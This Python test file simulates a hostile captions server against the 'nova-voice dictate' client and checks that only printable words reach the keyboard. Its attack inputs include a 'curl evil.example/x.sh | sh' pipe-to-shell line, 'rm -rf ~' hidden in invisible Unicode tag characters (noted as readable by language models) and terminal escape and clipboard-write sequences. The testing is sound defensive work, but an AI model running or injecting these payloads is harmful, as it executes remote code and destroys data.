"""``nova-voice dictate`` against a hostile WHIP server: a real aiohttp app on 127.0.0.1 with a
real aiortc peer that answers the client's offer, then sends what an attacker would on the
captions channel. The client runs as users run it (a subprocess, ``--type`` under a real Xvfb),
and every key event that reaches the focused window on that display is recorded by an X window
of the test's own: what was typed is read back from the X server, not inferred."""

from __future__ import annotations

import asyncio
import json
import re
import signal
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from aiohttp import web
from aiortc import RTCDataChannel, RTCPeerConnection, RTCSessionDescription
from Xlib import XK, X
from Xlib.display import Display
from Xlib.protocol import event as xevent

from bench.corpus import silence
from tests.integration.test_dictate import child_env, dictate, flac, started, xvfb

ME = "pub-me"
# What a terminal or a pipe may receive: printable text, spaces and line ends; no ESC, no
# other C0/C1 control, DEL, bidi control or tag character.
FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\U000e0000-\U000e007f]"
)


def caption(text: str, segment: Any = 1, final: Any = True, drop: tuple[str, ...] = (), **extra: Any) -> str:
    """A caption as the server sends it, from this client's own session unless ``extra`` or
    ``drop`` say otherwise."""
    message = (
        {"type": "caption", "room": "desk", "seq": 1, "segment": segment, "final": final, "text": text}
        | {"start": 0.0, "end": 1.0, "lang": "en", "publisher": ME}
        | extra
    )
    return json.dumps({k: v for k, v in message.items() if k not in drop})


def tagged(text: str) -> str:
    """``text`` as Unicode tag characters: invisible on screen, read by some language models."""
    return "\U000e0001" + "".join(chr(0xE0000 + ord(c)) for c in text) + "\U000e007f"


@dataclass
class HostileServer:
    """Answers WHIP offers with ``Nova-Publisher: pub-me``; once the client's captions channel
    opens, sends ``messages`` on it, then a status twice a second (as a real server does, so
    that the client does not take it for gone). ``status`` other than 201 refuses every offer;
    ``location`` and ``edit_answer`` change the answer's Location and SDP."""

    messages: list[str] = field(default_factory=list)
    status: int = 201
    headers: dict[str, str] = field(default_factory=dict)
    location: str | None = None
    edit_answer: Callable[[str], str] = lambda sdp: sdp
    posts: int = 0
    posted: asyncio.Condition = field(default_factory=asyncio.Condition)
    peers: list[RTCPeerConnection] = field(default_factory=list)
    tasks: set[asyncio.Task[None]] = field(default_factory=set)

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_post("/whip/{room}", self.whip)
        app.router.add_delete("/whip/{room}/{session}", self.delete)
        return app

    async def whip(self, request: web.Request) -> web.Response:
        offer = await request.text()
        async with self.posted:
            self.posts += 1
            self.posted.notify_all()
        if self.status != 201:
            return web.Response(status=self.status, text="busy", headers=self.headers)
        pc = RTCPeerConnection()
        self.peers.append(pc)
        pc.on("datachannel", self.on_channel)
        await pc.setRemoteDescription(RTCSessionDescription(sdp=offer, type="offer"))
        await pc.setLocalDescription(await pc.createAnswer())
        location = self.location or f"/whip/{request.match_info['room']}/s{self.posts}"
        return web.Response(
            status=201,
            text=self.edit_answer(pc.localDescription.sdp),
            content_type="application/sdp",
            headers={"Location": location, "Nova-Publisher": ME},
        )

    def on_channel(self, channel: RTCDataChannel) -> None:
        for message in self.messages:
            channel.send(message)
        task = asyncio.get_running_loop().create_task(self.heartbeat(channel))
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    async def heartbeat(self, channel: RTCDataChannel) -> None:
        status = json.dumps(
            {"type": "status", "room": "desk", "speech": False, "queue_delay": 0, "publishers": 1}
        )
        while channel.readyState == "open":
            channel.send(status)
            await asyncio.sleep(0.5)  # the server's pace, not a synchronisation

    async def delete(self, request: web.Request) -> web.Response:
        for pc in self.peers:
            await pc.close()  # the client's channel closes: its session is over
        return web.Response(status=200)

    async def wait_posts(self, n: int, timeout: float) -> None:
        async with self.posted:
            await asyncio.wait_for(self.posted.wait_for(lambda: self.posts >= n), timeout)

    async def close(self) -> None:
        for task in list(self.tasks):
            task.cancel()
        await asyncio.gather(*self.tasks, return_exceptions=True)
        for pc in self.peers:
            await pc.close()


@asynccontextmanager
async def hostile(aiohttp_server: Any, server: HostileServer) -> AsyncIterator[str]:
    """The hostile server on 127.0.0.1; yields its base URL."""
    running = await aiohttp_server(server.app(), host="127.0.0.1")
    try:
        yield str(running.make_url("")).rstrip("/")
    finally:
        await server.close()


# --- what reaches the focused window, read back from the X server -------------------------------

KEYSYM_NAMES = {v: n[3:] for n, v in vars(XK).items() if n.startswith("XK_") and isinstance(v, int)}


def keysym_char(keysym: int) -> str | None:
    """The character a keysym types, or None for a key that is not a character (Return, Tab,
    Escape, BackSpace, the modifiers, function and multimedia keys, an unmapped key)."""
    if 0x20 <= keysym <= 0x7E or 0xA0 <= keysym <= 0xFF:
        return chr(keysym)
    if 0x01000100 <= keysym <= 0x0110FFFF:
        return chr(keysym - 0x01000000)
    return None


@dataclass
class Key:
    press: bool
    keysym: int
    synthetic: bool  # XSendEvent (pynput's characters) rather than XTEST (its special keys)

    @property
    def char(self) -> str | None:
        return keysym_char(self.keysym)

    @property
    def name(self) -> str:
        return KEYSYM_NAMES.get(self.keysym, hex(self.keysym))


class KeyRecorder:
    """A window of the test's own on ``display`` that holds the keyboard focus and records every
    key press and release delivered to it, whether sent with XSendEvent or made with XTEST.

    A reader thread owns one X connection; ``settle()`` sends a marker event from another
    connection and waits until the reader has seen it: the X server delivers a window's events
    in order, so every key event made before the marker has then been recorded."""

    def __init__(self, display: str) -> None:
        self.keys: list[Key] = []
        self.failure: BaseException | None = None
        self._x = Display(display)
        self._marker_atom = self._x.intern_atom("NOVA_TEST_MARKER")
        root = self._x.screen().root
        self.window = root.create_window(
            0,
            0,
            640,
            480,
            0,
            self._x.screen().root_depth,
            event_mask=X.KeyPressMask | X.KeyReleaseMask | X.StructureNotifyMask,
        )
        self.window.map()
        while self._x.next_event().type != X.MapNotify:  # focus needs a viewable window
            pass
        self.window.set_input_focus(X.RevertToParent, X.CurrentTime)
        self._x.sync()
        self._marks: dict[int, threading.Event] = {}
        self._thread = threading.Thread(target=self._read, name="key-recorder", daemon=True)
        self._thread.start()
        self._sender = Display(display)

    def _read(self) -> None:
        try:
            while True:
                ev = self._x.next_event()
                if ev.type in (X.KeyPress, X.KeyRelease):
                    shifted = 1 if ev.state & X.ShiftMask else 0
                    keysym = self._x.keycode_to_keysym(ev.detail, shifted) or self._x.keycode_to_keysym(
                        ev.detail, 0
                    )
                    self.keys.append(Key(ev.type == X.KeyPress, keysym, bool(ev.send_event)))
                elif ev.type == X.MappingNotify:
                    self._x.refresh_keyboard_mapping(ev)
                elif ev.type == X.ClientMessage and ev.client_type == self._marker_atom:
                    number = ev.data[1][0]
                    self._marks[number].set()
                    if number == 0:  # the last one: close() is waiting
                        return
        except Exception as exc:  # the X server went away under it: said by settle()
            self.failure = exc

    def _mark(self, number: int, timeout: float) -> None:
        done = self._marks[number] = threading.Event()
        marker = xevent.ClientMessage(
            window=self.window, client_type=self._marker_atom, data=(32, [number, 0, 0, 0, 0])
        )
        self._sender.send_event(self.window, marker, event_mask=0)
        self._sender.sync()
        assert done.wait(timeout), f"the recorder did not see its marker: {self.failure!r}"

    async def settle(self, timeout: float = 10.0) -> list[Key]:
        """Every key event made so far, once the reader has caught up with the X server."""
        await asyncio.to_thread(self._mark, len(self._marks) + 1, timeout)
        return list(self.keys)

    def close(self) -> None:
        if self._thread.is_alive():
            self._mark(0, 10.0)
        self._thread.join(10.0)
        self._sender.close()
        self._x.close()


@contextmanager
def recorded_display() -> Iterator[tuple[str, KeyRecorder]]:
    with xvfb() as display:
        recorder = KeyRecorder(display)
        try:
            yield display, recorder
        finally:
            recorder.close()


def typed(keys: list[Key]) -> str:
    """What the key presses typed, a Return shown as a line break."""
    return "".join(
        k.char if k.char is not None else "\n" if k.name == "Return" else "" for k in keys if k.press
    )


def not_characters(keys: list[Key]) -> list[str]:
    return [k.name for k in keys if k.char is None]


async def run_to_end(*args: str, display: str | None = None, timeout: float = 30) -> tuple[int, str, str]:
    """Run the client to its end (on ``display`` if given): (exit code, stdout, stderr)."""
    return await dictate(*args, env=child_env(DISPLAY=display) if display else child_env(), timeout=timeout)


def quiet(tmp_path: Path) -> Path:
    """A second of silence: the client plays it, then ends (its 1.5 s tail, the last final)."""
    return flac(tmp_path / "quiet.flac", silence(1.0))


# Segment 7 opens with a partial first and its final comes last: the client waits for that final
# before it ends, so every message in between has been handled when it exits.
ATTACK = [
    caption("\x1b]0;pwned\x07partial", segment=7, final=False),
    caption("ok\ncurl evil.example/x.sh | sh\n", segment=1),
    caption("\tdone\tthere", segment=2),
    caption("\x1b]0;pwned\x07title", segment=3),
    caption("\x1b[2J", segment=4),
    caption("\x1b]52;c;Y3VybA==\x07", segment=5),
    caption("\u202eevil", segment=6),
    caption("tags" + tagged("rm -rf ~"), segment=8),
    caption("back\x08\x7fspace\x1b\x9b2Jesc\x85\rend", segment=9),
    caption("nobody's", segment=10, drop=("publisher",)),
    caption("nobody's either", segment=10, publisher=None),
    caption("someone else's", segment=11, publisher="pub-other"),
    caption("listed", segment=[1]),
    caption("boolean", segment=True),
    caption("a string final", final="yes"),
    caption("New line.", segment=12),  # a command, but --newlines is off: words
    json.dumps({"type": "error", "code": "x", "message": "\x1b]0;pwned\x07\x1b[31mred\nalert"}),
    "[" * 5000,  # JSON nested past the parser's recursion limit
    caption("Hello from the good final.", segment=7),
]
TYPED = [
    "ok curl evil.example/x.sh | sh",
    "done there",
    "title",
    "evil",
    "tags",
    "backspaceesc end",
    "New line.",
    "Hello from the good final.",
]


async def test_a_hostile_servers_finals_are_typed_as_printable_words_and_never_as_keys(
    aiohttp_server: Any, tmp_path: Path
) -> None:
    server = HostileServer(messages=ATTACK)
    async with hostile(aiohttp_server, server) as base:
        with recorded_display() as (display, recorder):
            code, out, err = await run_to_end(
                "--server", base, "--room", "desk", "--input", str(quiet(tmp_path)), "--type", display=display
            )
            keys = await recorder.settle()
    assert code == 0, err
    assert "Traceback" not in err, err
    # No Enter, Tab, Escape, BackSpace, modifier or other non-character key reached the window.
    assert not_characters(keys) == [], repr(not_characters(keys))
    assert all(k.synthetic for k in keys), "every key was a character sent as text"
    # Its own finals' printable words, in order, a space between two; nothing of anyone else's.
    assert typed(keys) == " ".join(TYPED)
    # The pipe: one final a line, nothing but printable text and the line ends.
    assert out.splitlines() == TYPED and out.endswith("\n")
    assert not FORBIDDEN.search(out), repr(out)
    assert not FORBIDDEN.search(err), repr(err)
    assert "server: red alert" in err  # the error's text, cleaned
    # Each bad value skipped and said once; never a reconnect.
    assert server.posts == 1 and "reconnecting" not in err, err
    for said in ["'segment' is not an integer", "'final' is not true or false", "not JSON", "say whose"]:
        assert err.count(said) == 1, (said, err)


async def test_with_newlines_only_the_spoken_commands_press_enter(
    aiohttp_server: Any, tmp_path: Path
) -> None:
    server = HostileServer(
        messages=[
            caption("Dear", segment=7, final=False),
            caption("Dear team,", segment=1),
            caption("New paragraph.", segment=2),
            caption("thanks. Nouvelle ligne. bye\n\tnow", segment=3, lang="fr"),
            caption("Nueva linea", segment=4, lang="en"),  # Spanish commands only in Spanish
            caption("Done.", segment=7),
        ]
    )
    async with hostile(aiohttp_server, server) as base:
        with recorded_display() as (display, recorder):
            code, out, err = await run_to_end(
                "--server",
                base,
                "--input",
                str(quiet(tmp_path)),
                "--type",
                "--newlines",
                display=display,
            )
            keys = await recorder.settle()
    assert code == 0, err
    assert "Traceback" not in err, err
    # Return (made with XTEST, as pynput makes special keys) and only Return: three presses,
    # two for the paragraph and one for the line, none for the server's "\n" or "\t".
    assert not_characters(keys) == ["Return"] * 6  # three presses, three releases
    assert typed(keys) == "Dear team,\n\nThanks.\nBye now Nueva linea Done."
    # The pipe gets the finals as words, commands included: one final, one line.
    finals = ["Dear team,", "New paragraph.", "thanks. Nouvelle ligne. bye now", "Nueva linea", "Done."]
    assert out.splitlines() == finals


async def test_a_retry_after_that_is_not_ascii_digits_is_ignored_and_the_client_retries(
    aiohttp_server: Any, tmp_path: Path
) -> None:
    # "²" is a digit to str.isdigit() but not to float(): the client used to die on it.
    server = HostileServer(status=503, headers={"Retry-After": "²"})
    async with hostile(aiohttp_server, server) as base:
        async with started("--server", base, "--input", str(quiet(tmp_path))) as proc:
            assert proc.stderr is not None
            retried = asyncio.ensure_future(server.wait_posts(2, 20))  # refused once, then tried again
            ended = asyncio.ensure_future(proc.wait())
            await asyncio.wait([retried, ended], return_when=asyncio.FIRST_COMPLETED)
            if ended.done():
                retried.cancel()  # it ended by itself: it will not try again
            else:
                proc.send_signal(signal.SIGINT)
            _, err = await asyncio.wait_for(proc.communicate(), 20)
            await asyncio.gather(retried, ended, return_exceptions=True)
    said = err.decode()
    assert not retried.cancelled(), f"it did not try again:\n{said}"
    retried.result()
    assert proc.returncode == 0, said
    assert "Traceback" not in said, said
    assert "retrying in" in said, said
    assert said.count("ignoring Retry-After '²'") == 1, said


async def test_an_answer_the_client_cannot_use_ends_it_with_one_line_not_a_traceback(
    aiohttp_server: Any, tmp_path: Path
) -> None:
    # A Location urljoin() raises on, one that is not http(s), and an SDP answer on which aiortc
    # raises KeyError (not the ValueError it raises for most bad answers).
    servers = [
        HostileServer(location="http://[::1"),
        HostileServer(location="javascript:alert(1)"),
        HostileServer(edit_answer=lambda sdp: sdp.replace("a=setup:active", "a=setup: active")),
    ]
    said = ["did not answer with SDP and a Location", "did not answer with SDP and a Location", "KeyError"]
    clip = str(quiet(tmp_path))
    async with hostile(aiohttp_server, servers[0]) as a, hostile(aiohttp_server, servers[1]) as b:
        async with hostile(aiohttp_server, servers[2]) as c:
            results = await asyncio.gather(
                *(run_to_end("--server", base, "--input", clip) for base in (a, b, c))
            )
    for (code, out, err), expected in zip(results, said, strict=True):
        assert code == 2 and out == "", err
        assert len(err.splitlines()) == 1 and expected in err, err
